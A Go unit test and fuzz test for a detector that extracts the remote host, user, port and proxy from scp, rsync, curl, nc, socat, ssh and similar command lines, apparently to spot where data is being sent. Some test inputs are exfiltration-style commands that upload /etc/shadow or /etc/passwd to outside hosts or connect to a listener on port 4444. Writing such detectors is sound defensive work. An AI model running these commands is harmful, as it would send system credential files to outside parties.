package detect

import (
	"fmt"
	"strings"
	"testing"
)

func TestFarEndsAreReadFromArguments(t *testing.T) {
	for line, want := range map[string]string{
		"scp|-q|/tmp/a.tar.gz|deploy@203.0.113.9:in/":                             "deploy@203.0.113.9:in/",
		"scp|-P|2222|-i|k:k|a|b@h:my file, \u00fc":                                "b@h:my file, \u00fc port 2222",
		"scp|-3|-J|bob@bastion:2200|one:/a|two:/b":                                "one:/a through bob@bastion:2200; two:/b through bob@bastion:2200",
		"scp|./a:b|root@[2001:db8::9]:/srv/":                                      "root@[2001:db8::9]:/srv/",
		"scp|a|scp://bob@h:2222//srv/x":                                           "bob@h://srv/x port 2222",
		"scp|-oProxyCommand=ssh -W %h:%p jump|a|h:":                               "h through ssh -W %h:%p jump",
		"scp|-l|800|a|h:b":                                                        "h:b",
		"scp|-o|User=eve|-oPort=23|a|h:b":                                         "eve@h:b port 23",
		"scp|--|-a|h:b":                                                           "h:b",
		"sftp|-b|/root/batch|-P2222|bob@h":                                        "bob@h port 2222",
		"sftp|h:/srv/x":                                                           "h:/srv/x",
		"sftp|bob@[fd77::11]":                                                     "bob@[fd77::11]",
		"rsync|-az|-e|ssh -p 2222 -l eve -J 'a b'|/srv/|h:/x":                     "eve@h:/x port 2222 through a b",
		"rsync|--rsh=ssh -o 'ProxyCommand nc -x p:1080 %h %p'|/srv|h:":            "h through nc -x p:1080 %h %p",
		"rsync|-a|/srv|bob@h::backup/x":                                           "bob@h:backup/x",
		"rsync|--exclude|a:b|/srv|rsync://bob@h:8730/mod/x":                       "bob@h:/mod/x port 8730",
		"rsync|-e|/tmp/.x/tunnel --to 1|a|h:b":                                    "h:b through /tmp/.x/tunnel --to 1",
		"curl|-sST|/etc/shadow|https://eve:secret@h.example:8443/up?x=1":          "eve@h.example:/up port 8443",
		"curl|-F|f=@/a|-x|socks5://u:p@127.0.0.1:9050|-u|eve:secret|h.example/in": "eve@h.example:/in through 127.0.0.1:9050",
		"curl|--pass|secret|--oauth2-bearer|secret|--socks4a|p:1|https://h/":      "h:/ through p:1",
		"curl|--data-binary|@/a|--url|http://[2001:db8::9]/":                      "[2001:db8::9]:/",
		"curl|--upload-fil|/etc/shadow|https://h/":                                "h:/",
		"curl|--upl|/etc/shadow|--preprox|p:1|https://h/":                         "h:/ through p:1",
		"curl|-o|/tmp/x|ftp://h/a|sftp://bob@g/b":                                 "h:/a; bob@g:/b",
		"wget|--post-file=/etc/passwd|http://h:8080/p":                            "h:/p port 8080",
		"nc|-N|-w|5|203.0.113.9|4444":                                             "203.0.113.9 port 4444",
		"nc|-X|5|-x|proxy:1080|2001:db8::9|443":                                   "[2001:db8::9] port 443 through proxy:1080",
		"nc|-lp|4444":                                                             "",
		"socat|-u|FILE:/etc/shadow|TCP6:[2001:db8::9]:443,retry=3":                "[2001:db8::9] port 443",
		"socat|-|SOCKS4A:127.0.0.1:h.example:80,socksport=9050":                   "h.example port 80 through 127.0.0.1",
		"openssl|s_client|-quiet|-connect|h:443":                                  "h port 443",
		"ssh|-p|2222|-J|jump|bob@h|tar|x|-C|/srv":                                 "bob@h:tar x -C /srv port 2222 through jump",
		"ssh|ssh://bob@h:23|cat > 'a b'":                                          "bob@h:cat > 'a b' port 23",
		"ssh|-4q|-l|eve|2001:db8::9|cat":                                          "eve@[2001:db8::9]:cat",
		"rclone|copy|/srv/x|--transfers|4|drive:backup/2026":                      "drive:backup/2026",
		"rclone|copy|/a|:sftp:x":                                                  "sftp:x",
		"rclone|copy|/a|:sftp,host=h,user=u,pass=pw:x":                            "u@h:x",
		"rclone|copy|/a|:webdav,pass=pw,url=\"https://h/d\":x":                    "webdav:x",
		"lftp|-e|put /a|-u|eve,secret|sftp://h/x":                                 "eve@h:/x",
		"ncftpput|-u|eve|-p|secret|h|/in|/a":                                      "eve@h:/in",
		"smbclient|//h/share|-U|eve%secret|-c|put a":                              "eve@h:share",
		"aws|s3|cp|/a|s3://bucket/x":                                              "bucket:/x",
		"ftp|h|2121":                                                              "h port 2121",
		"scp":                                                                     "",
		"scp|-P":                                                                  "",
		"zzz|a|h:b":                                                               "",
	} {
		args := strings.Split(line, "|")
		var got []string
		for _, a := range aims(args[0], args) {
			got = append(got, fmt.Sprint(a))
		}
		if s := strings.Join(got, "; "); s != want {
			t.Errorf("%s\n got %q\nwant %q", line, s, want)
		}
	}
}

func FuzzFarEnds(f *testing.F) {
	f.Add("scp", "-P", "[", "a@b@[::1]:x")
	f.Add("ssh", "-", "-o", "ProxyCommand")
	f.Add("rsync", "-e", "ssh 'a", "::")
	f.Fuzz(func(t *testing.T, tool, a, b, c string) {
		for _, x := range aims(tool, []string{tool, a, b, c}) {
			if x.Host == "" {
				t.Errorf("%q: a far end without a name", x)
			}
		}
	})
}
